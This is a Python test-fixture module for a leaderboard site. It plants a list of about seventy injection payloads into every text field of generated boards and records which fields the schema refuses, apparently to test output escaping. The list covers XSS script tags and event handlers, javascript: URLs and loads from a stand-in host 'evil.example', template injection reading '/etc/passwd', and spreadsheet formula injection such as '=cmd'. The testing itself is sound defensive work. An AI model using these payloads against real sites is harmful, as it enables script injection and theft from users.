"""Boards whose every text is an attempt to run a script in the reader's browser."""

from __future__ import annotations

import datetime
import zlib
from collections import Counter
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import numpy as np
from pydantic import BaseModel, ValidationError

from bench.records import Cell, Fit, RunManifest, TrainingData, suite_digest
from leaderboard.boards import Board, Boards, Row, Source, Unranked, unique_slugs
from leaderboard.entries import N_RANK_RESAMPLES, Entry, Hits, Resamples, Score, Summarised
from leaderboard.history import Change, Revision
from leaderboard.ranking import rank

RUN = "alert(1)"
AWAY = "https://evil.example/x"
PAYLOADS = (
    # elements and handlers
    f"<script>{RUN}</script>",
    f"<script src={AWAY}></script>",
    f"<img src=x onerror={RUN}>",
    f"<img src={AWAY}.png>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a href=javascript:{RUN}><text y=20>x</text></a></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<math href=javascript:{RUN}>click</math>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<object data={AWAY}></object>",
    f"<embed src={AWAY}>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<input autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<base href={AWAY}/>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<link rel=stylesheet href={AWAY}.css>",
    f"<style>@import '{AWAY}';</style>",
    f"<form action={AWAY}><button>x</button></form>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<a href=javascript:{RUN}>click</a>",
    # leaving an attribute, an element, a comment or a string
    f'"><script>{RUN}</script>',
    f"'><img src=x onerror={RUN}>",
    f'" onmouseover={RUN} x="',
    f"' onfocus={RUN} autofocus x='",
    f"x onclick={RUN}",
    f"` onmouseover={RUN}",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><img src=x onerror={RUN}>",
    f"</style><script>{RUN}</script>",
    f"</option></select><img src=x onerror={RUN}>",
    f"--><script>{RUN}</script>",
    f"<!--<script>{RUN}</script>",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f'";{RUN};//',
    f"';{RUN};//",
    f'\\";{RUN};//',
    f"\\u003cimg src=x onerror={RUN}\\u003e",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"%3Cimg src=x onerror={RUN}%3E",
    f"\u2028{RUN}\u2029//",
    "\N{RIGHT-TO-LEFT OVERRIDE}>)1(trela=rorreno gmi<",
    f"\x00<img src=x onerror={RUN}>",
    f"\x1b]8;;{AWAY}\x07x",
    f"<\uff1cscript>{RUN}</script>",
    # URLs
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    "//evil.example/x",
    f'{AWAY}"onmouseover={RUN}//',
    f"{AWAY}?<script>{RUN}</script>",
    # templates and expressions
    f"{{{{ ''.__class__.__mro__ }}}}<script>{RUN}</script>",
    "{% include '/etc/passwd' %}",
    f"${{{RUN}}}",
    f"#{{{RUN}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"datum['x'] + {RUN}",
    "signal:window.constructor",
    "__proto__",
    "constructor",
    # spreadsheets
    f'=HYPERLINK("{AWAY}","x")',
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
)
# Decided by the suite, so alike in all rows: every payload gets a cell and a family of its own instead.
_SHARED = {
    "Entry": {"scores", "families", "shifts", "worst", "overall", "schema_version"},
    "RunManifest": {"suite", "suite_id", "cells", "collections"},
}


class Tally(BaseModel):
    """How often a text was put into a field, and how often the schema refused it, by `Model.field`."""

    planted: Counter = Counter()
    refused: Counter = Counter()


def strange_boards(real: Summarised, folder: Path, tally: Tally) -> Boards:
    """One board with a row, a cell and a family per payload, and asides of the site made of payloads."""
    suite_wide = with_strange_cells(with_fit(real.entry), tally)
    entries = [plant(suite_wide, payload, tally) for payload in PAYLOADS]
    rng = np.random.default_rng(0)
    resamples = [made_resamples(entry, rng) for entry in entries]
    revisions = [made_revision(folder, payload, tally) for payload in PAYLOADS]
    rows = [
        Row(row_id, entry, of_row, strange_hits(entry), standing, Source(folder, revision))
        for row_id, entry, of_row, standing, revision in zip(
            unique_slugs(entry.label for entry in entries),
            entries,
            resamples,
            rank(entries, resamples),
            revisions,
            strict=True,
        )
    ]
    unranked = tuple(Unranked(payload, payload) for payload in PAYLOADS)
    label = suite_wide.manifest.suite
    board = Board(label, unique_slugs([label])[0], None, in_order(rows), unranked, tuple(revisions))
    return Boards((board,), tuple((payload, payload) for payload in PAYLOADS))


def in_order(rows: Iterable[Row]) -> tuple[Row, ...]:
    return tuple(sorted(rows, key=lambda row: row.standing.order))


def made_resamples(entry: Entry, rng: np.random.Generator) -> Resamples:
    shape = (len(entry.families), N_RANK_RESAMPLES)
    tables = (rng.uniform(0.1, 0.9, shape), rng.uniform(0.1, 0.9, shape), rng.uniform(0.4, 0.9, shape[1]))
    return Resamples(*(table.astype(np.float32) for table in tables))


def strange_hits(entry: Entry) -> Hits:
    """Hits of made images in every clean and shifted cell."""
    names = tuple(f"{score.cell.slug}/{direction}" for score in entry.scores for direction in score.cell.directions)
    rng, n_images = np.random.default_rng(len(entry.label)), 10
    hits = rng.integers(0, 2, len(names) * n_images).astype(np.uint8)
    queries = zlib.compress(np.ones_like(hits).tobytes())
    return Hits(names, (PAYLOADS[0],) * len(names), (n_images,) * len(names), zlib.compress(hits.tobytes()), queries)


def with_fit(entry: Entry) -> Entry:
    """The entry of a submission that `rove fit` made, every field of which says something."""
    data = [TrainingData(name="scenes/train", sha256="0" * 64, n_images=2, n_captions=3)]
    fit = Fit(
        recipe="lora",
        version=1,
        seed=0,
        args={"rank": "2"},
        data=data,
        validation="scenes/val",
        epochs=2.5,
        relative_seconds=0.25,
        saw_evaluation_data=True,
    )
    submission = entry.manifest.submission.model_copy(update={"fit": fit})
    return entry.model_copy(update={"manifest": entry.manifest.model_copy(update={"submission": submission})})


def with_strange_cells(entry: Entry, tally: Tally) -> Entry:
    """The suite's name, collections, cells, families and shifts are payloads wherever the schema lets them be."""
    template = next(score for score in entry.scores if score.lost)
    held = next(iter(entry.families.values()))
    scores = [score for score in entry.scores if score.cell.is_clean][:2]
    for number, payload in enumerate(PAYLOADS, 1):
        cell = template.cell.model_copy(update={"seed": number})
        score = plant(template.model_copy(update={"cell": cell}), payload, tally)
        if score.family == payload:  # the cell below it took the payload as well, or kept its own
            scores.append(plant_cell(score, template.cell.shift, payload))
    families = {score.family: held for score in scores[2:]}
    cells = tuple(score.cell for score in scores)
    suite, collections = PAYLOADS[0], {payload: 1 for payload in PAYLOADS if payload in families}
    manifest = RunManifest.model_validate(
        shallow(entry.manifest)
        | {
            "suite": suite,
            "cells": cells,
            "collections": collections,
            "suite_id": suite_digest(suite, collections, cells),
        }
    )
    changes = {"manifest": manifest, "scores": tuple(scores), "families": families, "shifts": dict(families)}
    changes["worst"] = next(iter(families))
    return Entry.model_validate(shallow(entry) | changes)


def plant_cell(score: Score, shift: str, payload: str) -> Score:
    """One cell per payload, of a real shift and without a victim, which would make it another submission's."""
    cell = Cell(collection=payload, shift=shift, seed=score.cell.seed, directions=score.cell.directions)
    return score.model_copy(update={"cell": cell})


def made_revision(folder: Path, payload: str, tally: Tally) -> Revision:
    line = Change(
        revision=1,
        event="reproduced",
        bundle_sha256="a" * 64,
        date=datetime.date(2026, 1, 1),
        reason="run again by somebody else",
        cells=3,
        machine="x86",
    )
    change = plant(line, payload, tally)
    return Revision(folder, payload, payload, 1, change, reproduced=change, is_current=True, withdrawn=change)


def plant(model: Any, payload: str, tally: Tally) -> Any:
    """The model with the payload in every text that takes it, in the models inside it too."""
    name_of_model = type(model).__name__
    for name in type(model).model_fields:
        if name in _SHARED.get(name_of_model, ()):
            continue
        old = getattr(model, name)
        inside = plant_inside(old, payload, tally)
        if inside is not old:
            model = type(model).model_validate(shallow(model) | {name: inside})
        for candidate in candidates(old, payload):
            try:
                model = type(model).model_validate(shallow(model) | {name: candidate})
            except ValidationError:
                tally.refused[f"{name_of_model}.{name}"] += 1
            else:
                tally.planted[f"{name_of_model}.{name}"] += 1
                break
    return model


def plant_inside(value: Any, payload: str, tally: Tally) -> Any:
    if isinstance(value, BaseModel):
        return plant(value, payload, tally)
    if isinstance(value, (tuple, list)) and any(isinstance(part, BaseModel) for part in value):
        return type(value)(plant_inside(part, payload, tally) for part in value)
    if isinstance(value, dict) and any(isinstance(part, (BaseModel, dict)) for part in value.values()):
        return {key: plant_inside(part, payload, tally) for key, part in value.items()}
    return value


def candidates(old: Any, payload: str) -> Iterable[Any]:
    """What a field could hold instead of what it holds, if it holds texts."""
    if isinstance(old, str) or old is None:
        return (payload, f"https://example.org/{payload}")
    if isinstance(old, (tuple, list)) and not any(isinstance(part, BaseModel) for part in old):
        return ([payload, payload], (payload,))
    if isinstance(old, dict):
        parts = list(old.values())
        return ({payload: parts[0]}, {**old, payload: parts[0]}) if parts else ({payload: payload},)
    return (payload,) if not isinstance(old, (BaseModel, bool, int, float, tuple, list)) else ()


def shallow(model: BaseModel) -> dict[str, Any]:
    return {name: getattr(model, name) for name in type(model).model_fields}
